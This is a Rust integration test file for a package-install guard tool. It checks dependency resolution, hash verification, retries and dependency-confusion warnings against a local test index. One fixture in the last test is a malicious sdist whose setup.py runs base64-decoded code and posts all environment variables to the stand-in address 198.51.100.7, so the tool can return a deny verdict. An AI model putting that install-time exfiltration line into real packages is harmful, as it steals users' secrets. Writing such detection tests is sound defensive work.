//! `guard install --dry-run` against a local PEP 691/503 index started by each
//! test on 127.0.0.1:0, serving wheels and sdists built in code, with fault
//! modes. No live network.

use std::path::Path;
use std::process::{Command, Output};

// The index server and fixture builders live in tests/common (shared with the e2e tests).
mod common;

use common::{cached_files, sdist, sha, wheel, Fault, Index};

fn guard(index: &Index, cache: &Path, args: &[&str]) -> Output {
    common::dry_run(index, cache, args)
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn plan(o: &Output) -> serde_json::Value {
    assert_eq!(o.status.code(), Some(0), "stderr: {}", stderr(o));
    serde_json::from_slice(&o.stdout)
        .unwrap_or_else(|e| panic!("bad JSON ({e}): {}", String::from_utf8_lossy(&o.stdout)))
}

fn names(plan: &serde_json::Value) -> Vec<String> {
    plan["packages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            format!(
                "{}=={}{}",
                p["name"].as_str().unwrap(),
                p["version"].as_str().unwrap(),
                if p["build_dependency"].as_bool().unwrap() {
                    " (build)"
                } else {
                    ""
                }
            )
        })
        .collect()
}

// ---------------------------------------------------------------- tests

#[test]
fn resolves_wheels_with_extras_and_markers() {
    let index = Index::start();
    index.add(
        "app",
        wheel(
            "app",
            "1.0",
            &[
                "lib>=1",
                "extra-dep ; extra == 'fast'",
                "winonly ; sys_platform == 'win32'",
            ],
        ),
        Fault::None,
    );
    index.add("app", wheel("app", "2.0rc1", &[]), Fault::None);
    index.add("lib", wheel("lib", "1.0", &[]), Fault::None);
    index.add("lib", wheel("lib", "1.1", &[]), Fault::None);
    index.add("extra-dep", wheel("extra-dep", "3.0", &[]), Fault::None);
    let cache = tempfile::tempdir().unwrap();
    let out = guard(&index, cache.path(), &["app[fast]"]);
    let p = plan(&out);
    assert_eq!(names(&p), ["app==1.0", "extra-dep==3.0", "lib==1.1"]);
    let app = &p["packages"][0];
    assert_eq!(app["verdict"], "allow");
    assert_eq!(app["filename"], "app-1.0-py3-none-any.whl");
    assert_eq!(
        app["url"],
        format!("http://127.0.0.1:{}/files/app-1.0-py3-none-any.whl", index.port)
    );
    assert_eq!(app["sha256"].as_str().unwrap().len(), 64);
    assert_eq!(p["schema"], 1);
    assert_eq!(p["summary"]["allow"], 3);
    assert!(p["python"]["version"].as_str().unwrap().starts_with('3'));
    // Every planned file is in the cache, verified.
    assert_eq!(cached_files(cache.path()).len(), 3);
}

#[test]
fn canary_sdist_setup_py_never_runs() {
    let index = Index::start();
    let dir = tempfile::tempdir().unwrap();
    let canary = dir.path().join("canary-was-here");
    let setup_py = format!(
        "open({:?}, 'w').write('setup.py ran')\nfrom setuptools import setup\nsetup(name='canary', version='1.0', install_requires=['lib>=1'])\n",
        canary.display().to_string()
    );
    index.add(
        "canary",
        sdist(
            "canary",
            "1.0",
            &[
                ("setup.py", setup_py),
                (
                    "PKG-INFO",
                    "Metadata-Version: 2.1\nName: canary\nVersion: 1.0\nSummary: guard test fixture\n".into(),
                ),
            ],
        ),
        Fault::None,
    );
    index.add("lib", wheel("lib", "1.0", &[]), Fault::None);
    index.add("setuptools", wheel("setuptools", "70.0", &[]), Fault::None);
    index.add("wheel", wheel("wheel", "0.43", &[]), Fault::None);
    let cache = tempfile::tempdir().unwrap();
    let out = guard(&index, cache.path(), &["canary"]);
    let p = plan(&out);
    assert!(!canary.exists(), "setup.py was executed during resolution");
    assert_eq!(
        names(&p),
        [
            "canary==1.0",
            "lib==1.0",
            "setuptools==70.0 (build)",
            "wheel==0.43 (build)"
        ]
    );
    assert_eq!(p["packages"][0]["metadata_source"], "setup-py");
    assert_eq!(p["packages"][0]["needs_build"], false);
}

#[test]
fn sdist_without_static_metadata_needs_build() {
    let index = Index::start();
    let setup_py = "from setuptools import setup\nsetup(install_requires=open('reqs.txt').read().split())\n";
    index.add(
        "dyn",
        sdist("dyn", "1.0", &[("setup.py", setup_py.into())]),
        Fault::None,
    );
    index.add("setuptools", wheel("setuptools", "70.0", &[]), Fault::None);
    index.add("wheel", wheel("wheel", "0.43", &[]), Fault::None);
    let cache = tempfile::tempdir().unwrap();
    let out = guard(&index, cache.path(), &["dyn"]);
    let p = plan(&out);
    assert_eq!(p["packages"][0]["name"], "dyn");
    assert_eq!(p["packages"][0]["needs_build"], true);
    assert!(stderr(&out).contains("no static metadata"), "{}", stderr(&out));
}

#[test]
fn hash_mismatch_is_a_hard_error_and_nothing_is_cached() {
    let index = Index::start();
    let bad = "f".repeat(64);
    let w = wheel("lib", "1.0", &[]);
    let actual = sha(&w.1);
    index.add_with_hash("lib", w, Fault::None, &bad);
    let cache = tempfile::tempdir().unwrap();
    let out = guard(&index, cache.path(), &["lib"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains("sha256 mismatch"), "{err}");
    assert!(err.contains("/files/lib-1.0-py3-none-any.whl"), "{err}");
    assert!(err.contains(&bad) && err.contains(&actual), "{err}");
    assert!(cached_files(cache.path()).is_empty());
    assert!(out.stdout.is_empty());
}

#[test]
fn server_errors_then_success_are_retried() {
    let index = Index::start();
    index.add("lib", wheel("lib", "1.0", &[]), Fault::FailFirst(2));
    let cache = tempfile::tempdir().unwrap();
    let p = plan(&guard(&index, cache.path(), &["lib"]));
    assert_eq!(names(&p), ["lib==1.0"]);
    assert_eq!(index.hits("/files/lib-1.0-py3-none-any.whl"), 3);
}

#[test]
fn persistent_server_errors_fail_clearly() {
    let index = Index::start();
    index.add("lib", wheel("lib", "1.0", &[]), Fault::FailFirst(100));
    let cache = tempfile::tempdir().unwrap();
    let out = guard(&index, cache.path(), &["lib"]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(err.contains("HTTP 500") && err.contains("after 3 attempts"), "{err}");
}

#[test]
fn timeouts_fail_clearly() {
    let index = Index::start();
    index.add("lib", wheel("lib", "1.0", &[]), Fault::Hang);
    let cache = tempfile::tempdir().unwrap();
    let out = guard(&index, cache.path(), &["lib", "--timeout", "0.3", "--retries", "1"]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(err.contains("timed out") || err.contains("cut short"), "{err}");
    assert!(cached_files(cache.path()).is_empty());
}

#[test]
fn truncated_bodies_are_retried_then_refused() {
    let index = Index::start();
    index.add("once", wheel("once", "1.0", &[]), Fault::Truncate(Some(1)));
    index.add("always", wheel("always", "1.0", &[]), Fault::Truncate(None));
    let cache = tempfile::tempdir().unwrap();
    let p = plan(&guard(&index, cache.path(), &["once"]));
    assert_eq!(names(&p), ["once==1.0"]);
    let out = guard(&index, cache.path(), &["always"]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains("cut short") || err.contains("error decoding") || err.contains("body"),
        "{err}"
    );
    assert!(!cached_files(cache.path())
        .iter()
        .any(|p| p.to_string_lossy().contains("always")));
}

#[test]
fn html_index_requirements_file_and_constraints() {
    let index = Index::start();
    let (f1, b1) = wheel("lib", "1.0", &[]);
    let (f2, b2) = wheel("lib", "2.0", &[]);
    let html = format!(
        "<html><body><a href=\"/files/{f1}#sha256={}\">{f1}</a>\n<a href=\"../../files/{f2}#sha256={}\" data-requires-python=\"&gt;=3.0\">{f2}</a></body></html>",
        sha(&b1),
        sha(&b2)
    );
    index.route("/simple/lib/", html.into_bytes(), "text/html", Fault::None);
    index.route(
        &format!("/files/{f1}"),
        b1.clone(),
        "application/octet-stream",
        Fault::None,
    );
    index.route(&format!("/files/{f2}"), b2, "application/octet-stream", Fault::None);
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("cons.txt"), "lib<2\n").unwrap();
    std::fs::write(
        dir.path().join("reqs.txt"),
        format!("# pinned\n-c cons.txt\nlib \\\n  --hash=sha256:{}\n", sha(&b1)),
    )
    .unwrap();
    let cache = tempfile::tempdir().unwrap();
    let reqs = dir.path().join("reqs.txt");
    let p = plan(&guard(&index, cache.path(), &["-r", reqs.to_str().unwrap()]));
    assert_eq!(names(&p), ["lib==1.0"]);

    // A --hash that does not match refuses the artifact.
    std::fs::write(&reqs, format!("lib==1.0 --hash=sha256:{}\n", "0".repeat(64))).unwrap();
    let out = guard(&index, cache.path(), &["-r", reqs.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("matches none of the --hash values"),
        "{}",
        stderr(&out)
    );

    // Errors in requirement files name file and line.
    std::fs::write(&reqs, "lib\n--bogus-option\n").unwrap();
    let out = guard(&index, cache.path(), &["-r", reqs.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("reqs.txt:2: unknown option `--bogus-option`"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn first_index_wins_and_confusion_is_reported() {
    let primary = Index::start();
    let extra = Index::start();
    primary.add("internal", wheel("internal", "1.0", &[]), Fault::None);
    extra.add("internal", wheel("internal", "99.0", &[]), Fault::None);
    let cache = tempfile::tempdir().unwrap();
    let out = guard(&primary, cache.path(), &["internal", "--extra-index-url", &extra.url()]);
    let p = plan(&out);
    assert_eq!(names(&p), ["internal==1.0"]);
    assert!(stderr(&out).contains("exists on several indexes"), "{}", stderr(&out));
}

#[test]
fn unknown_package_and_unsolvable_exit_2() {
    let index = Index::start();
    index.add("lib", wheel("lib", "1.0", &[]), Fault::None);
    let cache = tempfile::tempdir().unwrap();
    let out = guard(&index, cache.path(), &["nope"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("not found"), "{}", stderr(&out));
    let out = guard(&index, cache.path(), &["lib>=2"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("lib"), "{}", stderr(&out));
}

#[test]
fn unsupported_pip_options_are_refused_clearly() {
    for args in [
        &["install", "--src", "dir", "x"][..],
        &["install", "--no-build-isolation", "x"],
        &["install", "--trusted-host", "h", "x"],
        &["install", "--config-settings", "a=b", "x"],
    ] {
        let out = Command::new(env!("CARGO_BIN_EXE_guard")).args(args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(stderr(&out).contains("unsupported pip option"), "{}", stderr(&out));
    }
    // Editable installs are of local projects; an editable VCS checkout is refused with a reason.
    let out = Command::new(env!("CARGO_BIN_EXE_guard"))
        .args(["install", "-e", "git+https://git.example/r.git#egg=r"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("editable VCS checkouts"), "{}", stderr(&out));
}

#[test]
fn a_denied_sdist_is_reported_even_when_its_build_dependencies_cannot_be_resolved() {
    // Issue 12: the inspection's `deny` decides (exit 1), not the later failure
    // to resolve the build backend of that same sdist (exit 2).
    let index = Index::start();
    index.add(
        "evil",
        sdist(
            "evil",
            "1.0",
            &[
                (
                    "setup.py",
                    "import os, base64, urllib.request\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\nurllib.request.urlopen('http://198.51.100.7/c', data=repr(dict(os.environ)).encode())\nfrom setuptools import setup\nsetup(name='evil', version='1.0')\n".into(),
                ),
                (
                    "pyproject.toml",
                    "[build-system]\nrequires = [\"no-such-backend\"]\nbuild-backend = \"x\"\n".into(),
                ),
                ("PKG-INFO", "Metadata-Version: 2.2\nName: evil\nVersion: 1.0\n".into()),
            ],
        ),
        Fault::None,
    );
    let cache = tempfile::tempdir().unwrap();
    let out = guard(&index, cache.path(), &["evil"]);
    assert_eq!(out.status.code(), Some(1), "stderr: {}", stderr(&out));
    let plan: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(plan["packages"][0]["verdict"], "deny", "{plan}");
    assert!(stderr(&out).contains("no-such-backend"), "{}", stderr(&out));

    // Without a deny, the same failure is an error.
    index.add(
        "plain",
        sdist(
            "plain",
            "1.0",
            &[
                (
                    "pyproject.toml",
                    "[build-system]\nrequires = [\"no-such-backend\"]\nbuild-backend = \"x\"\n".into(),
                ),
                (
                    "PKG-INFO",
                    "Metadata-Version: 2.2\nName: plain\nVersion: 1.0\nSummary: s\nAuthor: a\n".into(),
                ),
                ("plain/__init__.py", "VALUE = 1\n".into()),
            ],
        ),
        Fault::None,
    );
    let out = guard(&index, cache.path(), &["plain"]);
    assert_eq!(out.status.code(), Some(2), "stderr: {}", stderr(&out));
}
